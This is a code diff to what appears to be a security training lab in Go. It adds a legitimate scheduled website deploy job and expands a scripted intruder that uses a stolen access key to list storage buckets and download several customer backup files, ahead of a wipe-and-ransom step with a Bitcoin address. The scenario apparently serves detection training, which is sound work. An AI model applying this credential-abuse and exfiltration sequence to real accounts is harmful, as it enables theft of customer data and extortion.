@@ -19,8 +19,31 @@ import (
 // leaves a ransom note, as the 2017 ransom gangs and the 2020 "Meow" bot did.
 func init() {
 	labkit.RegisterScript("open-users", openUsers)
+	labkit.RegisterScript("open-deploy", openDeploy)
 	labkit.RegisterScript("open-intruder", openIntruder)
 }
+
+// siteIndex is the website's home page, as the deploy job publishes it.
+const siteIndex = "<!doctype html><title>Acme</title><link rel=stylesheet href=style.css><h1>Acme Outdoor</h1><p>Gear for every season.</p>"
+
+// openDeploy is the site's deploy job: every two minutes it syncs the
+// site with the deploy user's key, from the build server's address. It is
+// the key's rightful use, which the intruder's use must be told from.
+func openDeploy(ctx context.Context, env labkit.Env) error {
+	c := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1057-aws exe/x86_64.ubuntu.22 command/s3.sync",
+		Creds: &client.Credentials{AccessKeyID: env("AWS_ACCESS_KEY_ID"), SecretAccessKey: env("AWS_SECRET_ACCESS_KEY")}}
+	for labkit.Sleep(ctx, 2*time.Minute) {
+		_, _ = c.S3("GET", "/acme-www?list-type=2&prefix=", nil)
+		if res, err := c.S3("PUT", "/acme-www/index.html", []byte(siteIndex)); err != nil || !res.OK() {
+			labkit.Logger.Info("deploy: upload failed", "result", res.String(), "err", err)
+		}
+	}
+	return nil
+}
+
+// stolenBackups are the backups the intruder downloads with the deploy
+// key: the customer exports, not the older order history.
+var stolenBackups = []string{"db/customers-2026-10-01.json", "db/customers-2026-11-01.json", "db/customers-2026-12-01.json"}
 
 // RansomWallet is the address the note demands payment to.
 const RansomWallet = "bc1qm34lsc65zpw79lxes69zkqmk6ee3ewf0j77s3h"
@@ -69,8 +92,11 @@ func openOnce(env labkit.Env) error {
 	}
 	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 command/s3.cp"}
 	_, _ = c.Query("sts", "GetCallerIdentity", nil)
+	_, _ = c.S3("GET", "/acme-www?list-type=2", nil)
 	_, _ = c.S3("GET", "/acme-customer-backups?list-type=2", nil)
-	_, _ = c.S3("GET", "/acme-customer-backups/db/customers-2026-11-01.json", nil)
+	for _, key := range stolenBackups {
+		_, _ = c.S3("GET", "/acme-customer-backups/"+key, nil)
+	}
 
 	// The wipe: read, delete, and leave the note where the data was.
 	hc := &http.Client{Timeout: 10 * time.Second}
